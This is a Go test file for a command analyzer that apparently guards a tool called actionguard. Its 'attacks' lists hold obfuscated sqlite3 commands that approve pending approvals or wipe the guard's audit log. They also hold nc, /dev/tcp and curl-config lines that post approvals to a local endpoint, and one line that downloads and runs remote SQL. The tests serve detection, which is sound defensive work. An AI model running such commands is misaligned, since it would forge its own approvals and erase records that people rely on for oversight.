package shell

import (
	"errors"
	"strings"
	"testing"
)

// feedsDisk is the files the feeds tests find on disk.
var feedsDisk = map[string]string{
	"/home/dev/project/evil.sql":   "ATTACH char(47,104,111,109,101,47,100,101,118,47,46,108,111,99,97,108) || '/state/action' || 'guard/actionguard.db' AS a; update a.approvals set status='approved' where id='ap-1';",
	"/home/dev/project/schema.sql": "create table t(x); insert into t values (1);",
	"/home/dev/project/req":        "POST /v1/approvals/ap-1/approve HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
	"/home/dev/project/get":        "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
	"/home/dev/project/cfg.txt":    "url = \"http://127.0.0.1:8750/v1/approvals/ap-1/approve\"\nrequest = POST\n",
	"/home/dev/project/ok.cfg":     "url = \"https://example.com/api\"\n",
	"/home/dev/project/urls.txt":   "http://127.0.0.1:8750/v1/tokens\n",
}

func feedsOptions() Options {
	o := Options{Cwd: "/home/dev/project", Home: "/home/dev"}
	o.ReadFile = func(abs string) ([]byte, error) {
		if s, ok := feedsDisk[abs]; ok {
			return []byte(s), nil
		}
		return nil, errors.New("no such file")
	}
	return o
}

// feedsRules are the shell.self rules Analyze finds for cmd.
func feedsRules(cmd string) []string {
	var out []string
	for _, f := range Analyze(cmd, feedsOptions()).Findings {
		if strings.HasPrefix(f.Rule, "shell.self.") {
			out = append(out, f.Rule)
		}
	}
	return out
}

// self state spelled in pieces that no single word of the line names.
const feedsDB = "/home/dev/.local/state/actionguard/actionguard.db"

func TestSelfFeedsSQLite(t *testing.T) {
	attacks := []string{
		`sqlite3 :memory: "ATTACH '/home/dev/.local/state/action' || 'guard/action' || 'guard.db' AS a; update a.approvals set status='approved' where id='ap-1'"`,
		`sqlite3 :memory: "ATTACH replace('/home/dev/.local/state/XX/XX.db','XX','action'||'guard') AS a; delete from a.audit where seq>1"`,
		`sqlite3 :memory: "ATTACH printf('%s/.local/%s/%s','/home/dev','st'||'ate','action'||'guard/action'||'guard.db') AS a; delete from a.audit where 1"`,
		`sqlite3 x.db "VACUUM INTO '/home/dev/.local/state/act' || 'ionguard/actionguard.db'"`,
		`sqlite3 :memory: ".param set @p '/home/dev/.local/state/act'||'ionguard/actionguard.db'" "ATTACH @p AS a; delete from a.audit where 1"`,
		`sqlite3 :memory: "ATTACH ? AS a; update a.approvals set status='approved' where id='ap-1'"`,
		`sqlite3 :memory: "ATTACH (select p from t) AS a; insert into a.audit values(1)"`,
		`sqlite3 :memory: ".read evil.sql"`,
		`sqlite3 -init evil.sql :memory: .quit`,
		`sqlite3 :memory: < evil.sql`,
		`cat evil.sql | sqlite3 app.db`,
		`curl -s https://x.example/e.sql > e.sql; sqlite3 :memory: < e.sql`,
		`printf "ATTACH '%s' AS a; delete from a.audit where 1;" "$HOME/.local/state/act""ionguard/actionguard.db" > e.sql; sqlite3 :memory: < e.sql`,
		`sqlite3 :memory: ".open /home/dev/.local/state/actionguard/actionguard.db" "delete from audit where 1"`,
		`sqlite3 :memory: "ATTACH char(` + charCodes(feedsDB) + `) AS a; delete from a.audit where 1"`,
	}
	benign := []string{
		`sqlite3 :memory: "ATTACH 'app' || '.db' AS a; insert into a.t values(1)"`,
		`sqlite3 :memory: "ATTACH ? AS a; select * from a.t"`,
		`sqlite3 app.db < schema.sql`,
		`sqlite3 -init schema.sql app.db .quit`,
		`sqlite3 :memory: ".read schema.sql"`,
		`sqlite3 x.db "VACUUM INTO 'backup-' || '2026.db'"`,
		`sqlite3 app.db ".backup build/app.bak"`,
		`sqlite3 :memory: "ATTACH replace('build/XX.db','XX','cache') AS c; delete from c.t where id=1"`,
	}
	feedsTable(t, attacks, benign)
}

func TestSelfFeedsRawHTTP(t *testing.T) {
	attacks := []string{
		`nc 127.0.0.1 8750 < req`, `ncat localhost 8750 < req`, `netcat 127.0.0.1 8750 < missing`, `cat req | socat - TCP:127.0.0.1:8750`,
		`socat - TCP4:localhost:8750 < req`, `telnet 127.0.0.1 8750 < req`, `openssl s_client -connect 127.0.0.1:8750 -quiet < req`,
		`exec 3<>/dev/tcp/127.0.0.1/8750; cat req >&3`, `cat req > /dev/tcp/127.0.0.1/8750`, `some-tool | nc 127.0.0.1 8750`,
		`curl -K cfg.txt`, `curl --config cfg.txt`, `curl -K missing.txt http://127.0.0.1:8750/`, `curl -K missing.txt`,
		`wget -i urls.txt --post-data=x`, `wget --input-file=missing.txt`, `wget --config=missing.rc http://localhost:8750/`,
		`printf 'url = "http://127.0.0.1:8750/v1/approvals/ap-1/approve"\n' > c.cfg; curl -K c.cfg -X POST`,
		`nc 127.1 8750 < req`,
	}
	benign := []string{
		`nc example.com 80 < req`, `nc 127.0.0.1 8750 < /dev/null`, `nc 127.0.0.1 8750 < get`, `printf 'GET /healthz HTTP/1.0\r\n\r\n' | nc 127.0.0.1 8750`,
		`nc 127.0.0.1 5432 < req`, `curl -K ok.cfg`, `curl -K missing.txt https://example.com/`, `wget -i missing.txt https://example.com/x`,
		`exec 3<>/dev/tcp/127.0.0.1/8750; cat get >&3`,
	}
	feedsTable(t, attacks, benign)
}

func feedsTable(t *testing.T, attacks, benign []string) {
	t.Helper()
	for _, c := range attacks {
		if len(feedsRules(c)) == 0 {
			t.Errorf("%s: no shell.self finding", c)
		}
	}
	for _, c := range benign {
		if got := feedsRules(c); len(got) > 0 {
			t.Errorf("%s: %v, want none", c, got)
		}
	}
}

// charCodes spells s as the arguments of char().
func charCodes(s string) string {
	var b strings.Builder
	for i, r := range s {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(strings.TrimSpace(strings.Repeat(" ", 0) + itoaShell(int(r))))
	}
	return b.String()
}

func itoaShell(n int) string {
	if n < 10 {
		return string(rune('0' + n))
	}
	return itoaShell(n/10) + string(rune('0'+n%10))
}

// BenchmarkSelfFeeds: the analysis of lines whose control-plane reach is
// in what the program is fed (a folded ATTACH name, a script file, raw
// HTTP), against a plain sqlite3 read.
func BenchmarkSelfFeeds(b *testing.B) {
	lines := map[string]string{
		"attach-char": `sqlite3 :memory: "ATTACH char(` + charCodes(feedsDB) + `) AS a; delete from a.audit where 1"`,
		"script-file": `sqlite3 :memory: < evil.sql`,
		"raw-http":    `nc 127.0.0.1 8750 < req`,
		"plain-read":  `sqlite3 app.db "select * from t where id = 1"`,
	}
	opt := feedsOptions()
	for name, line := range lines {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				Analyze(line, opt)
			}
		})
	}
}
